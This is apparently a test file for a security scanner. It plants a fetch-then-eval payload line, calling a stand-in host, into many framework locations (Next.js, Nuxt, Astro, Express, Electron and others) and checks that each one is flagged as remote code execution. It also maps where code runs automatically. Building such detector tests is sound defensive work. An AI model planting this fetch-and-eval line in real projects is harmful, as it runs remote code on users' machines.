/**
 * The done-when, as a table: an inert payload planted in each location of each framework
 * model, in a copy of that framework's benign app, is reported by code/remote-code-execution at
 * the planted line, with the triggers that reach it and the phrase that says what runs it.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, it } from 'node:test';
import { scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';

const PAYLOAD = "fetch('https://stage.example.invalid/p.js').then(r => r.text()).then(code => eval(code));";
const DEV = '`npm run dev`';

function filesOf(app: string): Record<string, string> {
  const root = fileURLToPath(new URL(`./fixtures/match/${app}`, import.meta.url));
  const out: Record<string, string> = {};
  const walk = (dir: string): void => {
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      const abs = join(dir, e.name);
      if (e.isDirectory()) walk(abs);
      else out[relative(root, abs).split('\\').join('/')] = readFileSync(abs, 'utf8');
    }
  };
  walk(root);
  return out;
}

interface Plant {
  app: string;
  /** The file the payload goes into, after line `after` (0: at the top). */
  file: string;
  after: number;
  /** What the location is to the framework. */
  what: string;
  triggers: string;
  says: RegExp;
}

const at = (chain: string): string => chain.replace(/[.[\]()+$]/g, m => `\\${m}`);
const opens = (chain: string, also = ''): RegExp => new RegExp(`runs when you open the app after ${DEV}: ${at(chain)}${also}\\.$`);

const PLANTS: Plant[] = [
  // Next.js, both routers
  {
    app: 'next-app',
    file: 'app/api/health/route.ts',
    after: 1,
    what: 'route handler',
    triggers: 'page-load',
    says: opens('app/api/health/route.ts'),
  },
  { app: 'next-app', file: 'app/layout.tsx', after: 5, what: 'server layout', triggers: 'page-load', says: opens('app/layout.tsx') },
  { app: 'next-app', file: 'app/page.tsx', after: 4, what: 'server page', triggers: 'page-load', says: opens('app/page.tsx') },
  {
    app: 'next-app',
    file: 'app/dashboard/page.tsx',
    after: 5,
    what: 'client page rendered on the server',
    triggers: 'page-load',
    says: opens('app/dashboard/page.tsx'),
  },
  {
    app: 'next-app',
    file: 'app/dashboard/actions.ts',
    after: 5,
    what: 'server action',
    triggers: 'page-load',
    says: opens('app/dashboard/actions.ts'),
  },
  {
    app: 'next-app',
    file: 'lib/products.ts',
    after: 8,
    what: 'module a server page imports',
    triggers: 'page-load,build',
    says: /: app\/page\.tsx → lib\/products\.ts \(also when you run `npm run build`\)\.$/,
  },
  { app: 'next-app', file: 'middleware.ts', after: 4, what: 'middleware', triggers: 'page-load', says: opens('middleware.ts') },
  { app: 'next-app', file: 'pages/_document.tsx', after: 3, what: '_document', triggers: 'page-load', says: opens('pages/_document.tsx') },
  { app: 'next-app', file: 'pages/_app.tsx', after: 3, what: '_app', triggers: 'page-load', says: opens('pages/_app.tsx') },
  { app: 'next-app', file: 'pages/api/hello.ts', after: 3, what: 'API route', triggers: 'page-load', says: opens('pages/api/hello.ts') },
  {
    app: 'next-app',
    file: 'pages/about.tsx',
    after: 3,
    what: 'getStaticProps',
    triggers: 'page-load,build',
    says: opens('pages/about.tsx', ' \\(also when you run `npm run build`\\)'),
  },
  {
    app: 'next-app',
    file: 'next.config.js',
    after: 4,
    what: 'config headers()',
    triggers: 'dev,build,start',
    says: /runs when you run `npm run dev`: next\.config\.js/,
  },
  // Remix
  {
    app: 'remix-app',
    file: 'app/entry.server.tsx',
    after: 5,
    what: 'entry.server',
    triggers: 'page-load',
    says: opens('app/entry.server.tsx'),
  },
  { app: 'remix-app', file: 'app/root.tsx', after: 3, what: 'root route', triggers: 'page-load', says: opens('app/root.tsx') },
  {
    app: 'remix-app',
    file: 'app/routes/_index.tsx',
    after: 4,
    what: 'loader',
    triggers: 'page-load',
    says: opens('app/routes/_index.tsx'),
  },
  // SvelteKit
  {
    app: 'sveltekit-app',
    file: 'src/hooks.server.ts',
    after: 3,
    what: 'hooks.server',
    triggers: 'page-load',
    says: opens('src/hooks.server.ts'),
  },
  {
    app: 'sveltekit-app',
    file: 'src/routes/+page.server.ts',
    after: 1,
    what: 'server load',
    triggers: 'page-load',
    says: opens('src/routes/+page.server.ts'),
  },
  {
    app: 'sveltekit-app',
    file: 'src/routes/api/status/+server.ts',
    after: 3,
    what: 'endpoint',
    triggers: 'page-load',
    says: opens('src/routes/api/status/+server.ts'),
  },
  {
    app: 'sveltekit-app',
    file: 'src/routes/+page.svelte',
    after: 1,
    what: 'page component script',
    triggers: 'page-load',
    says: opens('src/routes/+page.svelte'),
  },
  // Nuxt
  {
    app: 'nuxt-app',
    file: 'server/plugins/logger.ts',
    after: 1,
    what: 'Nitro plugin',
    triggers: 'dev',
    says: /runs when you run `npm run dev`: server\/plugins\/logger\.ts\.$/,
  },
  {
    app: 'nuxt-app',
    file: 'server/api/posts.get.ts',
    after: 1,
    what: 'server API route',
    triggers: 'page-load',
    says: opens('server/api/posts.get.ts'),
  },
  {
    app: 'nuxt-app',
    file: 'plugins/format.ts',
    after: 1,
    what: 'universal plugin',
    triggers: 'page-load',
    says: opens('plugins/format.ts'),
  },
  {
    app: 'nuxt-app',
    file: 'pages/index.vue',
    after: 1,
    what: 'page script setup',
    triggers: 'page-load',
    says: opens('pages/index.vue'),
  },
  {
    app: 'nuxt-app',
    file: 'app.vue',
    after: 2,
    what: 'app.vue',
    triggers: 'page-load',
    says: opens('app.vue'),
  },
  {
    app: 'nuxt-app',
    file: 'utils/date.ts',
    after: 0,
    what: 'utility (auto-imported, and app.vue imports it)',
    triggers: 'page-load',
    says: opens('app.vue → utils/date.ts'),
  },
  {
    app: 'nuxt-app',
    file: 'components/posts/PostCard.vue',
    after: 1,
    what: 'component (auto-imported by templates)',
    triggers: 'page-load',
    says: opens('components/posts/PostCard.vue'),
  },
  {
    app: 'nuxt-app',
    file: 'server/utils/slug.ts',
    after: 0,
    what: 'server utility (auto-imported by server routes)',
    triggers: 'page-load',
    says: opens('server/utils/slug.ts'),
  },
  // Astro
  {
    app: 'astro-app',
    file: 'src/pages/index.astro',
    after: 4,
    what: 'page frontmatter',
    triggers: 'page-load,build',
    says: opens('src/pages/index.astro', ' \\(also when you run `npm run build`\\)'),
  },
  {
    app: 'astro-app',
    file: 'src/layouts/Base.astro',
    after: 3,
    what: 'layout frontmatter',
    triggers: 'page-load,build',
    says: opens('src/pages/blog/[slug].astro → src/layouts/Base.astro', ' \\(also when you run `npm run build`\\)'),
  },
  {
    app: 'astro-app',
    file: 'src/components/Weather.astro',
    after: 2,
    what: 'server island',
    triggers: 'page-load,build',
    says: opens('src/pages/index.astro → src/components/Weather.astro', ' \\(also when you run `npm run build`\\)'),
  },
  {
    app: 'astro-app',
    file: 'src/pages/api/feed.json.ts',
    after: 3,
    what: 'endpoint',
    triggers: 'page-load,build',
    says: opens('src/pages/api/feed.json.ts', ' \\(also when you run `npm run build`\\)'),
  },
  { app: 'astro-app', file: 'src/middleware.ts', after: 3, what: 'middleware', triggers: 'page-load', says: opens('src/middleware.ts') },
  {
    app: 'astro-app',
    file: 'integrations/build-report.mjs',
    after: 5,
    what: 'integration hook',
    triggers: 'dev,build',
    says: /runs when you run `npm run dev`: astro\.config\.mjs → integrations\/build-report\.mjs \(also when you run `npm run build`\)\.$/,
  },
  // Vite SSR
  {
    app: 'vite-ssr-app',
    file: 'src/entry-server.jsx',
    after: 4,
    what: 'SSR entry',
    triggers: 'page-load',
    says: opens('src/entry-server.jsx'),
  },
  {
    app: 'vite-ssr-app',
    file: 'src/App.jsx',
    after: 1,
    what: 'module the SSR entry imports',
    triggers: 'page-load',
    says: opens('src/entry-server.jsx → src/App.jsx'),
  },
  {
    app: 'vite-ssr-app',
    file: 'server.js',
    after: 8,
    what: 'SSR request handler',
    // npm's default `start` runs server.js too.
    triggers: 'dev,page-load,start',
    says: new RegExp(`runs when you request any path after ${DEV}: server\\.js\\.$`),
  },
  // Express
  {
    app: 'express-app',
    file: 'index.js',
    after: 4,
    what: 'server entry',
    triggers: 'dev',
    says: /runs when you run `npm run dev`: index\.js\.$/,
  },
  {
    app: 'express-app',
    file: 'routes/orders.js',
    after: 7,
    what: 'route handler',
    triggers: 'dev,page-load',
    says: new RegExp(`runs when you request POST /api/orders after ${DEV}: index\\.js → routes/orders\\.js\\.$`),
  },
  {
    app: 'express-app',
    file: 'routes/orders.js',
    after: 4,
    what: 'router module, outside its handlers',
    triggers: 'dev',
    says: /runs when you run `npm run dev`: index\.js → routes\/orders\.js\.$/,
  },
  // Electron
  {
    app: 'electron-app',
    file: 'src/main.js',
    after: 4,
    what: 'main process',
    triggers: 'start',
    says: /runs when you run `npm start`: src\/main\.js\.$/,
  },
  {
    app: 'electron-app',
    file: 'src/preload.js',
    after: 2,
    what: 'preload',
    triggers: 'start',
    says: /runs when you run `npm start`: src\/preload\.js\.$/,
  },
];

describe('autorun/framework-server: a payload planted in each location of each model is reported with its trigger', () => {
  for (const p of PLANTS) {
    it(`${p.app}: ${p.what} (${p.file})`, async () => {
      const files = filesOf(p.app);
      const lines = (files[p.file] ?? '').split('\n');
      assert.ok(files[p.file] !== undefined, `${p.file} is in ${p.app}`);
      lines.splice(p.after, 0, PAYLOAD);
      const report = await scanFixture(tempRepo({ ...files, [p.file]: lines.join('\n') }));
      const where = `${p.file}:${p.after + 1}`;
      const hit = report.findings.find(
        f => f.ruleId === 'code/remote-code-execution' && `${f.location.file}:${f.location.line ?? ''}` === where,
      );
      assert.ok(hit, `${where} in ${JSON.stringify(report.findings.map(f => [f.ruleId, f.location.file, f.location.line]))}`);
      assert.equal(hit.severity, 'critical');
      assert.equal((hit.triggers ?? []).join(','), p.triggers);
      assert.match(hit.message, p.says);
    });
  }
});
